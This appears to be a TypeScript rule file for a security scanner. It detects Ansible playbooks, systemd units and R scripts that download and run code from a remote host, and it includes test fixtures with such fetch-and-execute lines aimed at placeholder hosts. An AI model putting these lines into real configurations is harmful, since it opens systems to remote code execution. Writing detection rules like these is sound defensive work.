/** RC-01, RC-03: playbooks, units, scripts of R and Git that run what a host sends. */
import { byMatchedOrigin } from '../programs/origins.ts';
import type { Weigher } from '../../engine/rule.ts';
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { byOrigin } from '../programs/origins.ts';

/** Rows of RC-01. */
/** a playbook runs commands that a host sends. */
export const byPlaybook: Weigher = (hit) => {
  const looked = /\blookup\(\s?["'](?:ansible\.builtin\.)?url["'][^\n]{0,200}/.exec(hit.region.text);
  return looked === null ? null : byOrigin(looked[0], hit, false);
};

export const fetchedWork: readonly Row[] = [
  row('a playbook runs commands that a host sends', {
    in: ['config', 'fence', 'script', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(String.raw`\b(?:ansible\.builtin\.)?(?:shell|command|raw)\s?:\s{0,3}["']?\{\{\s{0,3}\w{1,40}`),
    ),
    and: [/\blookup\(\s?["'](?:ansible\.builtin\.)?url["']/],
    severity: 'high',
    weigh: byPlaybook,
    catches: [
      inFile(
        'a.yml',
        '- set_fact:',
        "    steps: \"{{ lookup('ansible.builtin.url', 'https://steps.invalid/a') | from_yaml }}\"",
        '- ansible.builtin.shell: "{{ item }}"',
        '  loop: "{{ steps }}"',
      ),
    ],
    spares: [inFile('a.yml', '- ansible.builtin.shell: "{{ build }}"')],
  }),
  row('a unit of systemd downloads what it runs', {
    in: ['config', 'fence', 'script', 'decoded'],
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`ExecStart(?:Pre)?=[^\n]{0,200}?\b(?:curl|wget)\s[^\n]{0,240}?(?:\||&&|;)\s{0,3}(?:ba|z|da)?sh\b`,
      ),
    ),
    severity: 'critical',
    weigh: byMatchedOrigin,
    catches: [
      inFile(
        'Makefile',
        'units:',
        '\tprintf \'[Service]\\nExecStart=/bin/sh -c "wget -qO /run/r http://203.0.113.9/a && sh /run/r"\\n\' > $(UNIT)/a.service',
      ),
    ],
    spares: [inFile('a.service', '[Service]', 'ExecStart=/usr/bin/curl -fsS http://localhost:8080/health')],
  }),
  row('a program of R runs code that a host sends', {
    in: ['script', 'fence', 'decoded'],
    within: 'block',
    match: exactPattern(
      raw(String.raw`\b(?:sys\.)?source\(\s?(?:url\(\s?)?["']https?:\/\/[^"'\s]{4,160}|`),
      raw(
        String.raw`\burl\(\s?["']https?:\/\/[^"'\s]{4,160}["'][\s\S]{0,300}?\b(?:sys\.source\(|eval\(\s?parse\(|is\.function\()`,
      ),
    ),
    severity: 'high',
    weigh: byMatchedOrigin,
    catches: [
      inFile('a.R', 'source("https://parts.invalid/rules.R")'),
      inFile(
        'a.R',
        'con <- url("https://parts.invalid/prior.rds", "rb")',
        'p <- readRDS(gzcon(con))',
        'sys.source(textConnection(p$code), envir = env)',
      ),
    ],
    spares: [inFile('a.R', 'd <- readRDS(url("https://data.acme.invalid/rows.rds"))', 'plot(d)')],
  }),
];

/** Rows of RC-03. */
/** a script takes itself from a repository and runs the new one. */
export const bySelfUpdate: Weigher = (hit) => {
  const level = byOrigin(hit.match[1] ?? '', hit, false);
  return level === 'high' && /sslVerify=(?:false|0)/i.test(hit.match[0]) ? 'critical' : level;
};
